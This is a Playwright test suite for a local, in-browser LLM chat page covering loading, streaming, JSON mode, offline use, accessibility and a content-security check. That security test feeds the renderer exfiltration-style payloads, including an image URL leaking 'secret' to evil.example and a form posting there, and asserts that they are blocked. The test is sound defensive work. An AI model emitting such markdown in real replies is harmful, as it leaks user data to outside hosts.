// The chat page (www/) in headless Chromium, driven like a person would: pick the bundled tiny
// model, chat with a streamed reply, stop, regenerate, reload with the model server down (the
// model comes from the cache), go offline and reload (the service worker serves the shell).
// Screenshots at desktop and phone sizes land in tests/browser/screenshots/.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { bundledModels, startChatServer } from '../../www/serve.mjs';
import { CRASHING_REPO, crashingTokenizerRepo } from '../mock-hub/repos.mjs';
import { launchChromium, launchPersistentChromium } from './chromium.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const shots = join(here, 'screenshots');
const TINY = 'local:emberlm-test/tiny-qwen2-GGUF';
let server;
let browser;
let context;
let page;
// A model whose tokenizer traps the engine's WebAssembly on any text.
const crashing = crashingTokenizerRepo();
/** Uncaught errors on the chat page: none may happen (the last test checks). */
const pageErrors = [];

before(async () => {
  mkdirSync(shots, { recursive: true });
  // The tiny random model is offered here only: users never see it in the picker.
  server = await startChatServer({ testModels: true, extraRepos: crashing.repos });
  browser = await launchChromium();
  context = await browser.newContext({ viewport: { width: 1200, height: 800 } });
  page = await context.newPage();
  page.on('console', (m) => console.log(`[page] ${m.text()}`));
  page.on('pageerror', (e) => {
    console.log(`[page error] ${e.message}`);
    pageErrors.push(e.message);
  });
});
after(async () => {
  await browser?.close();
  await server?.close();
  rmSync(crashing.dir, { recursive: true, force: true });
});

async function open() {
  await page.goto(server.url);
  await page.waitForSelector('body[data-started="true"]');
}

/** Loads the tiny model, unless the page already has (it loads the last one used by itself). */
async function loadTiny() {
  await page.waitForFunction(() => document.body.dataset.state !== 'loading', null, { timeout: 120_000 });
  if ((await page.getAttribute('body', 'data-loaded')) !== TINY) {
    await page.selectOption('#model', TINY);
    await page.click('#load');
  }
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  assert.equal(await page.isHidden('#banner'), true, await page.textContent('#banner'));
}

/** Sets a field of the Settings panel, opening the panel as a person would. */
async function setting(id, value) {
  if (await page.isHidden('#settings')) await page.click('#toggle-settings');
  await page.fill(`#${id}`, value);
}

async function send(text) {
  const before = await page.locator('.msg.assistant').count();
  await page.fill('#prompt', text);
  await page.click('#send');
  await page.waitForFunction((n) => document.querySelectorAll('.msg.assistant').length > n, before);
  return page.locator('.msg.assistant').nth(before);
}

test('first visit: a welcome screen says what this is and what the model is; an example prompt loads it and gets an answer', async () => {
  await open();
  assert.equal(await page.isVisible('#welcome'), true);
  assert.match(await page.textContent('#welcome'), /on your own device/);
  assert.match(await page.textContent('#welcome'), /never leaves this device/);
  assert.equal(await page.getAttribute('body', 'data-loaded'), null, 'nothing loads on a first visit');
  // The card follows the picker: a curated Hub model's essentials, then the bundled tiny one.
  await page.selectOption('#model', 'hub:Qwen/Qwen2.5-0.5B-Instruct');
  await page.waitForFunction(() => document.getElementById('card-name').textContent.includes('Qwen2.5 0.5B'));
  assert.match(await page.textContent('#model-card'), /988 MB/);
  assert.match(await page.textContent('#model-card'), /Apache 2\.0/);
  await page.selectOption('#model', TINY);
  await page.waitForFunction(() => document.getElementById('card-name').textContent.includes('Tiny random Qwen2'));
  assert.match(await page.textContent('#card-status'), /Downloads once/);
  const examples = await page.locator('#examples button').allTextContents();
  assert.ok(examples.length >= 3, JSON.stringify(examples));
  await page.screenshot({ path: join(shots, 'welcome-desktop.png'), fullPage: true });
  await page.click('#examples button >> nth=0');
  await page.waitForSelector('.msg.assistant .meta', { timeout: 120_000 });
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  assert.equal(await page.getAttribute('body', 'data-loaded'), TINY);
  assert.equal(await page.locator('.msg.user .body').first().textContent(), examples[0]);
  assert.equal(await page.isHidden('#welcome'), true);
  // New chat: the welcome screen again, the model still loaded.
  await page.click('#new-chat');
  assert.equal(await page.locator('.msg').count(), 0);
  assert.equal(await page.isVisible('#welcome'), true);
  assert.match(await page.textContent('#card-status'), /Loaded/);
});

test('pick the bundled model, send a message, see a streamed reply with figures', async () => {
  await open();
  assert.match(await page.title(), /emberlm/);
  const options = await page.$$eval('#model option', (os) => os.map((o) => o.value));
  assert.ok(options.includes(TINY) && options.includes('hub:HuggingFaceTB/SmolLM2-360M-Instruct') && options.includes('custom'));
  assert.ok(!bundledModels().some((m) => m.id.startsWith('emberlm-test/')), 'the page as users get it offers no test model');
  await loadTiny();
  // Sampling defaults follow the model (SmolLM2: its card's 0.2; the tiny model: greedy).
  assert.equal(await page.inputValue('#temperature'), '0');
  const smol = await page.evaluate(async () => (await import('./models.js')).samplingFor('HuggingFaceTB/SmolLM2-135M-Instruct-GGUF'));
  assert.deepEqual(smol, { temperature: 0.2, top_p: 0.9, top_k: 0 });
  // The page is served cross-origin isolated, so the CPU backend has a thread per core.
  const cores = await page.evaluate(() => (crossOriginIsolated ? Math.min(navigator.hardwareConcurrency, 16) : 0));
  assert.ok(cores > 0, 'the chat page is cross-origin isolated');
  const cpu = `cpu \\(${cores} thread${cores === 1 ? '' : 's'}, simd128\\+relaxed\\)`;
  assert.match(await page.textContent('#figures'), new RegExp(`${cpu}, auto: the only WebGPU adapter .* is a software one`));
  if (cores > 1) assert.doesNotMatch(await page.textContent('#figures'), /one thread/);
  await setting('max-tokens', '24');
  await setting('temperature', '0');
  const reply = await send('Hello there!');
  // The bubble streams (a cursor while generating), then the figures and Regenerate appear.
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  const text = await reply.locator('.body').textContent();
  assert.ok(text.trim().length > 0, 'the reply has text');
  // On SwiftShader, auto picks the CPU backend, and the figures say so.
  assert.match(await reply.locator('.meta').textContent(), new RegExp(`24 tokens · first token (\\d+\\.\\d+ s|\\d+ min \\d+ s) · prefill [\\d.]+ tok/s · decode [\\d.]+ tok/s · ${cpu}`));
  assert.equal(await page.locator('.msg.user .body').first().textContent(), 'Hello there!');
  await page.screenshot({ path: join(shots, 'chat-desktop.png'), fullPage: true });
  await page.setViewportSize({ width: 390, height: 844 });
  await page.screenshot({ path: join(shots, 'chat-phone.png'), fullPage: true });
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.ok(overflow <= 0, `no sideways scrolling on a phone (${overflow}px)`);
  await page.setViewportSize({ width: 1200, height: 800 });
});

test('JSON mode: replies follow the schema in Settings (any JSON object without one); a schema that is not JSON is a plain message', async () => {
  await open();
  await loadTiny();
  await setting('max-tokens', '80');
  await setting('temperature', '1');
  await page.check('#json-mode');
  const schema = { type: 'object', properties: { city: { type: 'string', maxLength: 12 }, rank: { type: 'integer', minimum: 1, maximum: 5 } }, required: ['city', 'rank'], additionalProperties: false };
  await setting('json-schema', JSON.stringify(schema));
  const reply = await send('Name a city.');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  // Shown as a JSON code block; the text inside parses and fits the schema.
  const json = JSON.parse(await reply.locator('.body pre code').textContent());
  assert.ok(typeof json.city === 'string' && [...json.city].length <= 12 && json.rank >= 1 && json.rank <= 5 && Object.keys(json).length === 2, JSON.stringify(json));
  await page.screenshot({ path: join(shots, 'chat-json-mode.png'), fullPage: true });
  await setting('json-schema', '{not json');
  await send('Again.');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  assert.match(await page.textContent('#banner'), /JSON schema in Settings is not valid JSON/);
  await page.click('#banner-close');
  await page.uncheck('#json-mode');
  assert.equal(await page.isDisabled('#json-schema'), true);
});

test('stop ends a long reply early; regenerate replaces the last reply', async () => {
  await setting('max-tokens', '1500');
  // Stop as soon as text appears, from inside the page: the tiny model on the CPU decodes
  // 700-2,000 tokens a second, 400 of them within one Playwright round trip. A sampled reply
  // can still reach its end-of-turn token before the stop does (the tiny model ends one in
  // ~4 within ~130 tokens): then it is asked again, up to 5 times.
  let reply;
  let meta = '';
  for (let attempt = 0; attempt < 5 && !/stopped/.test(meta); attempt++) {
    reply = await send('Tell me everything.');
    // Esc, or the Stop button (alternately).
    await page.waitForFunction(
      (esc) => {
        if ((document.querySelector('.msg.assistant:last-child .body')?.textContent ?? '').length === 0) return false;
        if (esc) document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }));
        else document.getElementById('stop').click();
        return true;
      },
      attempt % 2 === 0,
      { timeout: 120_000 },
    );
    await page.waitForSelector('body[data-state="ready"]', { timeout: 60_000 });
    meta = await reply.locator('.meta').textContent();
  }
  assert.match(meta, /stopped/);
  assert.ok(Number(meta.match(/(\d+) tokens/)[1]) < 1500);

  const count = await page.locator('.msg.assistant').count();
  await setting('max-tokens', '8');
  await page.click('.msg.assistant:last-child button.regenerate');
  // On the CPU backend 8 tokens take milliseconds: wait for the new reply, not for a state seen in passing.
  await page.waitForFunction(
    () => document.body.dataset.state === 'ready' && /^8 tokens/.test(document.querySelector('.msg.assistant:last-child .meta')?.textContent ?? ''),
    null,
    { timeout: 120_000 },
  );
  assert.equal(await page.locator('.msg.assistant').count(), count, 'the reply was replaced, not added');
  assert.match(await page.locator('.msg.assistant').last().locator('.meta').textContent(), /^8 tokens/);
});

test('the chat area keeps the newest reply in view, and the message box grows with its text', async () => {
  await page.setViewportSize({ width: 1200, height: 500 });
  try {
    await setting('max-tokens', '60');
    await page.click('#toggle-settings'); // closed again: the chat gets the room
    for (let i = 0; i < 8 && !(await page.evaluate(() => document.getElementById('chat').scrollHeight > document.getElementById('chat').clientHeight * 1.5)); i++) {
      await send(`Message ${i}`);
      await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
    }
    const at = await page.evaluate(() => { const chat = document.getElementById('chat'); return {
      chat: chat.scrollHeight - chat.scrollTop - chat.clientHeight,
      overflows: chat.scrollHeight > chat.clientHeight,
      page: document.documentElement.scrollHeight - document.documentElement.clientHeight,
    }; });
    assert.ok(at.overflows, 'enough replies to scroll');
    assert.ok(at.chat <= 2, `the newest reply is in view (${at.chat}px below)`);
    assert.ok(at.page <= 0, `the chat scrolls, not the page (${at.page}px)`);
    assert.ok(await page.isVisible('#composer'), 'the message box stays on screen');

    const height = () => page.$eval('#prompt', (t) => t.getBoundingClientRect().height);
    const one = await height();
    // `fill` types as a paste does (Enter would send): one input event.
    await page.fill('#prompt', 'one\ntwo\nthree\nfour');
    const four = await height();
    assert.ok(four > one * 2, `four lines make the box taller (${one}px → ${four}px)`);
    await page.fill('#prompt', 'more\n'.repeat(20));
    assert.ok((await height()) <= 10 * 16 + 1, 'up to its maximum, then it scrolls');
    await page.fill('#prompt', '');
    assert.ok((await height()) <= one + 1, 'and shrinks again');
  } finally {
    await page.setViewportSize({ width: 1200, height: 800 });
  }
});

test('conversations are kept: a reload restores the one on screen; the list opens, renames, exports and deletes them', async () => {
  await page.waitForSelector('body[data-state="ready"]');
  const texts = () => page.locator('.msg .body').allTextContents();
  const before = await texts();
  assert.ok(before.length >= 2, 'the earlier tests left a conversation');
  await open();
  await page.waitForFunction((n) => document.querySelectorAll('.msg').length === n, before.length);
  assert.deepEqual(await texts(), before, 'the reload restored the conversation');
  assert.equal(await page.isHidden('#welcome'), true);
  await loadTiny();

  await page.click('#toggle-chats');
  await page.waitForSelector('#chat-list li.current');
  await page.click('#chat-list li.current .rename');
  await page.fill('#chat-list li.current input', 'My test chat');
  await page.press('#chat-list li.current input', 'Enter');
  await page.waitForFunction(() => document.querySelector('#chat-list li.current .open')?.textContent === 'My test chat');
  const exported = async (button) => {
    const [file] = await Promise.all([page.waitForEvent('download'), page.click(`#chat-list li.current ${button}`)]);
    return { name: file.suggestedFilename(), text: readFileSync(await file.path(), 'utf8') };
  };
  const md = await exported('.export-md');
  assert.equal(md.name, 'My test chat.md');
  assert.match(md.text, /^# My test chat\n/);
  assert.ok(md.text.includes(`**You:**\n\n${before[0]}`), md.text.slice(0, 300));
  const json = await exported('.export-json');
  assert.equal(JSON.parse(json.text).messages.length, before.length);

  // A new chat is listed once it has a message; the renamed one opens again from the list.
  const listed = await page.locator('#chat-list li').count();
  await page.click('#close-chats');
  await page.click('#new-chat');
  await setting('max-tokens', '4');
  await send('A second conversation');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  await page.click('#toggle-chats');
  await page.waitForFunction((n) => document.querySelectorAll('#chat-list li').length === n, listed + 1);
  assert.match(await page.textContent('#chat-list li.current .open'), /A second conversation/);
  await page.click('#chat-list li .open >> text=My test chat');
  await page.waitForFunction((n) => document.querySelectorAll('.msg').length === n, before.length);
  assert.deepEqual(await texts(), before);
  await page.screenshot({ path: join(shots, 'chats-desktop.png') });
  // On a wide screen the list sits beside the chat instead of over it.
  const right = await page.evaluate(() => document.getElementById('chats').getBoundingClientRect().right);
  assert.ok((await page.evaluate(() => document.getElementById('chat').getBoundingClientRect().left)) >= right - 1);
  // Deleting the conversation on screen leaves the welcome screen and the others.
  await page.click('#chat-list li.current .delete');
  await page.waitForFunction((n) => document.querySelectorAll('#chat-list li').length === n, listed);
  assert.equal(await page.isVisible('#welcome'), true);
  assert.doesNotMatch(await page.textContent('#chat-list'), /My test chat/);
  assert.match(await page.textContent('#chat-list'), /A second conversation/);
  // From the keyboard: the drawer takes the focus when it opens, Esc closes it and gives it back.
  await page.click('#close-chats');
  await page.focus('#toggle-chats');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#chats:not([hidden])');
  assert.equal(await page.evaluate(() => document.activeElement.id), 'close-chats');
  await page.keyboard.press('Escape');
  assert.equal(await page.isHidden('#chats'), true);
  assert.equal(await page.evaluate(() => document.activeElement.id), 'toggle-chats');
});

test('Copy puts a message, or a code block of a reply, on the clipboard; Edit puts a message back in the box and cuts the conversation there', async () => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.url });
  await setting('max-tokens', '12');
  await page.check('#json-mode');
  await send('Some JSON please');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  await page.uncheck('#json-mode');
  const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
  // A JSON-mode reply shows as a code block: its own Copy takes the code only.
  const code = await page.locator('.msg.assistant').last().locator('pre code').textContent();
  await page.locator('.msg.assistant').last().locator('pre .copy-code').click();
  assert.equal(await clipboard(), code);
  await page.locator('.msg.user').last().locator('.meta .copy').click();
  assert.equal(await clipboard(), 'Some JSON please');

  await send('First question');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  const count = await page.locator('.msg').count();
  await page.locator('.msg.user').last().locator('.edit').click();
  assert.equal(await page.inputValue('#prompt'), 'First question');
  assert.equal(await page.locator('.msg').count(), count - 2, 'the message and its reply are gone');
  await page.fill('#prompt', 'Second question');
  await page.click('#send');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  await page.waitForFunction((n) => document.querySelectorAll('.msg').length === n, count);
  assert.equal(await page.locator('.msg.user .body').last().textContent(), 'Second question');
});

test('a long message: the reply bubble says how much of it the model has read before the first token', async () => {
  await setting('max-tokens', '4');
  const long = Array.from({ length: 60 }, (_, i) => `Line ${i}: the quick brown fox jumps over the lazy dog.`).join('\n');
  await send(long);
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  // What "Reading your prompt…" showed last (the text is gone once the reply comes).
  const shown = await page.locator('.msg.assistant').last().locator('.body').getAttribute('data-waiting');
  assert.match(shown, /^\d+% · \d+\.\d+ s$/, shown);
  assert.ok(Number(shown.match(/^(\d+)%/)[1]) >= 50, shown);
});

test('the context counter rises with the conversation; when it fills, the oldest messages are left out and it says so', async () => {
  await page.click('#new-chat');
  await setting('context', '256');
  await setting('max-tokens', '24');
  await page.selectOption('#model', TINY);
  await page.click('#load');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  const used = async () => Number((await page.textContent('#context-use')).match(/^([\d,]+) \/ 256 tokens$/)[1].replace(',', ''));
  await send('Tell me a story.');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  const first = await used();
  await send('And then?');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  assert.ok((await used()) > first, 'the second turn takes more of the context');
  for (let i = 0; i < 12 && (await page.locator('.msg.trimmed').count()) === 0; i++) {
    await send(`More, part ${i}.`);
    await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  }
  assert.ok((await page.locator('.msg.trimmed').count()) > 0, 'the oldest messages are marked as left out');
  assert.match(await page.textContent('#banner'), /longer than the model's context \(256 tokens\): the oldest messages are left out/);
  assert.ok((await used()) <= 256);
  assert.ok((await page.locator('.msg.assistant').last().locator('.body').textContent()).length > 0, 'the model still answers');
  await page.screenshot({ path: join(shots, 'context-full.png') });
  await page.click('#banner-close');
  await setting('context', '');
});

test('a model that fails to load leaves the one in use loaded, and says so in a banner that closes', async () => {
  // A bundled-looking choice the local model server does not have.
  await page.evaluate(() => document.querySelector('#model optgroup').append(new Option('Missing', 'local:emberlm-test/missing-GGUF')));
  await page.selectOption('#model', 'local:emberlm-test/missing-GGUF');
  await page.click('#load');
  await page.waitForSelector('#banner:not([hidden])', { timeout: 120_000 });
  await page.waitForSelector('body[data-state="ready"]');
  assert.match(await page.textContent('#banner-text'), /emberlm-test\/missing-GGUF could not be loaded: .*Still using emberlm-test\/tiny-qwen2-GGUF\./);
  assert.equal(await page.inputValue('#model'), TINY, 'the picker shows the model in use again');
  assert.equal(await page.isEnabled('#prompt'), true);
  await setting('max-tokens', '4');
  await send('Still working?');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  await page.click('#banner-close');
  assert.equal(await page.isHidden('#banner'), true);
});

test('an engine that crashes mid-conversation is loaded again, says so, and the page stays usable', async () => {
  await page.evaluate((id) => document.querySelector('#model optgroup').append(new Option('Crashing', `local:${id}`)), CRASHING_REPO);
  await page.selectOption('#model', `local:${CRASHING_REPO}`);
  await page.click('#load');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  await send('Hello?');
  await page.waitForFunction(() => /was loaded again/.test(document.querySelector('#banner-text').textContent), null, { timeout: 120_000 });
  await page.waitForSelector('body[data-state="ready"]');
  assert.match(await page.getAttribute('#banner', 'title'), /crashed: .*index out of bounds/, 'the cause is there on hover');
  assert.equal(await page.inputValue('#model'), `local:${CRASHING_REPO}`);
  assert.equal(await page.isEnabled('#prompt'), true);
  await page.click('#banner-close');
  // Back to the tiny model for the tests below (a switch starts a new conversation: says so).
  await page.selectOption('#model', TINY);
  await page.click('#load');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  assert.match(await page.textContent('#banner-text'), /New conversation with emberlm-test\/tiny-qwen2-GGUF/);
  await page.click('#banner-close');
});

test('with the Hub unreachable, a Hub model gets a plain message, not a technical one', async () => {
  await page.route(/huggingface\.co/, (route) => route.abort('internetdisconnected'));
  try {
    await page.selectOption('#model', 'hub:HuggingFaceTB/SmolLM2-135M-Instruct');
    await page.click('#load');
    await page.waitForSelector('#banner:not([hidden])', { timeout: 180_000 });
    await page.waitForSelector('body[data-state="ready"]');
    const text = await page.textContent('#banner-text');
    assert.match(text, /The Hugging Face Hub cannot be reached, and this model is not downloaded yet\./);
    assert.doesNotMatch(text, /\(|fetch|TypeError/, 'no nested technical detail');
    assert.ok((await page.getAttribute('#banner', 'title')).length > 0, 'the cause is still there on hover');
  } finally {
    await page.unroute(/huggingface\.co/);
    await page.click('#banner-close');
  }
});

test('the page is an installable PWA (manifest, icon, service worker)', async () => {
  // Chromium does not judge installability in incognito, which Playwright contexts are.
  const profile = mkdtempSync(join(tmpdir(), 'emberlm-profile-'));
  const persistent = await launchPersistentChromium(profile);
  try {
    const p = await persistent.newPage();
    await p.goto(server.url);
    await p.waitForSelector('body[data-started="true"]');
    await p.evaluate(() => navigator.serviceWorker.ready);
    const cdp = await persistent.newCDPSession(p);
    const { installabilityErrors } = await cdp.send('Page.getInstallabilityErrors');
    assert.deepEqual(installabilityErrors, []);
    const manifest = await cdp.send('Page.getAppManifest');
    assert.ok(manifest.url.endsWith('manifest.webmanifest'));
    assert.deepEqual(manifest.errors, []);
  } finally {
    await persistent.close();
    rmSync(profile, { recursive: true, force: true });
  }
});

test('without WebGPU the page says so instead of failing silently', async () => {
  const other = await browser.newPage();
  await other.addInitScript(() => delete Object.getPrototypeOf(navigator).gpu);
  await other.goto(server.url);
  await other.waitForSelector('body[data-started="true"]');
  assert.match(await other.textContent('#banner'), /WebGPU is not available.*run on the CPU/);
  await other.close();
});

test('the storage panel lists the cached model with its size', async () => {
  await page.click('#toggle-cache');
  await page.waitForFunction(() => document.querySelector('#cached')?.textContent.includes('tiny-qwen2-GGUF'));
  assert.match(await page.textContent('#cached'), /emberlm-test\/tiny-qwen2-GGUF · 444 kB/);
});

test('a download shows its rate and the time left, and Cancel stops it (the model in use stays)', async () => {
  // The tiny model out of the cache, and its file served slowly (8 KiB every 50 ms).
  await page.evaluate(async (repo) => {
    const { localHub } = await (await fetch('config.json')).json();
    await (await import('./emberlm/dist/index.js')).deleteCachedModel(repo, { hub: localHub });
  }, TINY.slice('local:'.length));
  // (The body comes from the LFS redirect's target.)
  server.hub.inject({ match: '/__lfs/', kind: 'slow', chunk: 8192, delayMs: 50, times: 20 });
  try {
    await page.selectOption('#model', TINY);
    await page.click('#load');
    await page.waitForFunction(() => / kB\/s · about [\d.]+ s left$/.test(document.querySelector('#progress p').textContent), null, { timeout: 60_000 });
    await page.click('#cancel-load');
    await page.waitForSelector('body[data-state="ready"]', { timeout: 60_000 });
    assert.match(await page.textContent('#banner-text'), /^Loading emberlm-test\/tiny-qwen2-GGUF was cancelled\. Still using emberlm-test\/tiny-qwen2-GGUF\.$/);
    assert.equal(await page.isHidden('#progress'), true);
  } finally {
    server.hub.clearFaults();
  }
  await page.click('#banner-close');
  // Loaded again in full, so the tests after this one find it in the cache.
  await page.click('#load');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  assert.equal(await page.isHidden('#banner'), true);
});

test('with the model server down, a reload loads the last model used from the cache by itself, and chats', async () => {
  await server.stopModels();
  await open();
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
  assert.equal(await page.getAttribute('body', 'data-loaded'), TINY, 'loaded without a click');
  await loadTiny();
  assert.match(await page.textContent('#figures'), /from cache/);
  await setting('max-tokens', '4');
  await send('Still there?');
  await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
});

test('offline, the service worker serves the page, the conversation comes back and the cached model still runs', async () => {
  await page.evaluate(() => navigator.serviceWorker.ready);
  const before = await page.locator('.msg .body').allTextContents();
  assert.ok(before.includes('Still there?'), 'the last test left a conversation');
  await context.setOffline(true);
  try {
    await open();
    assert.match(await page.title(), /emberlm/);
    await page.waitForFunction((n) => document.querySelectorAll('.msg').length === n, before.length);
    assert.deepEqual(await page.locator('.msg .body').allTextContents(), before);
    await loadTiny();
    await setting('max-tokens', '4');
    await send('Offline?');
    await page.waitForSelector('body[data-state="ready"]', { timeout: 120_000 });
    await page.screenshot({ path: join(shots, 'chat-offline.png') });
  } finally {
    await context.setOffline(false);
    await server.startModels();
  }
});

test('replies cannot reach other origins or break the page: CSP (meta and header), no forms or media, render errors fall back to text', async () => {
  const res = await page.request.get(server.url);
  const header = res.headers()['content-security-policy'];
  assert.match(header, /img-src 'self' data: blob:/);
  assert.match(header, /form-action 'none'/);
  assert.equal(await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content'), header);
  const r = await page.evaluate(async () => {
    const html = window.emberlmRenderReply(
      '![x](http://evil.example/leak?c=secret) <form action="http://evil.example/"><input name="p"></form> <video poster="http://evil.example/p.png"></video> **ok**',
    );
    // Rendering 2,000 nested quotes throws inside marked: the reply becomes plain text.
    const deep = window.emberlmRenderReply('>'.repeat(2000) + ' deep');
    // The CSP blocks a remote image even if one got into the page.
    const blocked = await new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
      const img = document.createElement('img');
      img.src = 'http://evil.example/pixel.png';
      document.body.append(img);
      setTimeout(() => resolve(null), 3000);
    });
    return { html, deep: deep.length, blocked, state: document.body.dataset.state };
  });
  assert.doesNotMatch(r.html, /<form|<input|<video|poster=|action=/);
  assert.match(r.html, /<strong>ok<\/strong>/);
  assert.ok(r.deep > 2000, 'the deep quote is shown as text');
  assert.match(r.blocked ?? '', /img-src/);
  assert.equal(r.state, 'ready');
});

test('accessibility: axe finds no serious violations in the dark and the light theme, on the welcome screen and in a chat with highlighted code; screenshots of each', async () => {
  const axeSource = readFileSync(join(here, '..', 'node_modules', 'axe-core', 'axe.min.js'), 'utf8');
  for (const colorScheme of ['dark', 'light']) {
    // axe is injected as a script: this context lets it past the page's CSP.
    const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 }, colorScheme, bypassCSP: true });
    const p = await ctx.newPage();
    try {
      await p.goto(server.url);
      await p.waitForSelector('body[data-started="true"]');
      const scan = async (where) => {
        await p.evaluate(axeSource);
        const result = await p.evaluate(() => window.axe.run(document, { resultTypes: ['violations'] }));
        assert.ok(result.passes.length > 10, `axe ran its rules (${result.passes.length} passed)`);
        const serious = result.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
        assert.deepEqual(serious.map((v) => `${v.id} (${v.impact}): ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`), [], `${colorScheme}, ${where}`);
      };
      await scan('welcome screen');
      await p.screenshot({ path: join(shots, `welcome-${colorScheme}-1280x800.png`) });
      await p.selectOption('#model', TINY);
      await p.click('#toggle-settings');
      await p.fill('#max-tokens', '16');
      await p.check('#json-mode');
      await p.click('#toggle-settings');
      await p.fill('#prompt', 'Hello');
      await p.click('#send');
      await p.waitForSelector('.msg.assistant .meta', { timeout: 120_000 });
      await p.waitForSelector('body[data-state="ready"]');
      // The JSON reply is a code block, coloured once the highlighter has loaded.
      await p.waitForSelector('.msg.assistant pre code[data-highlighted="yes"]', { timeout: 30_000 });
      await scan('chat');
      await p.screenshot({ path: join(shots, `chat-${colorScheme}-1280x800.png`) });
      await p.setViewportSize({ width: 390, height: 844 });
      await scan('chat on a phone');
      await p.screenshot({ path: join(shots, `chat-${colorScheme}-390x844.png`) });
    } finally {
      await ctx.close();
    }
  }
});

test('nothing above threw an uncaught error on the page', () => {
  assert.deepEqual([...new Set(pageErrors)], []);
});
